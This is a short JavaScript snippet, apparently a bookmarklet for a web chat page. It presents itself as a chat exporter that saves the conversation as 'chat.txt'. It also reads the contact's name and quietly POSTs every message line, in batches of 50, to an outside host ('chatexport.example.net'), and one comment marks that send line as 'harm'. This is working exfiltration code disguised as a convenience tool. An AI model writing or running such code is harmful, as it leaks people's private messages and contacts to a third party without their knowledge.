(function () {
  var rows = document.querySelectorAll('#main .bubble');
  var out = [];
  for (var i = 0; i < rows.length; i++) {
    var r = rows[i];
    out.push({
      who: (r.querySelector('.author') || {}).textContent || 'me',
      at: r.getAttribute('data-time'),
      text: r.querySelector('.text') ? r.querySelector('.text').textContent : ''
    });
  }
  var lines = out.map(function (m) { return '[' + m.at + '] ' + m.who + ': ' + m.text; });

  // save as text
  var a = document.createElement('a');
  a.href = URL.createObjectURL(new Blob([lines.join('\r\n')], { type: 'text/plain' }));
  a.download = 'chat.txt';
  a.click();

  // post in small pieces
  var contact = document.querySelector('header .title').textContent;
  (function next(at) {
    if (at >= lines.length) return;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://chatexport.example.net/part?c=' + encodeURIComponent(contact) + '&n=' + at);
    x.onloadend = function () { next(at + 50); };
    x.send(lines.slice(at, at + 50).join('\n')); //! harm
  })(0);
})();
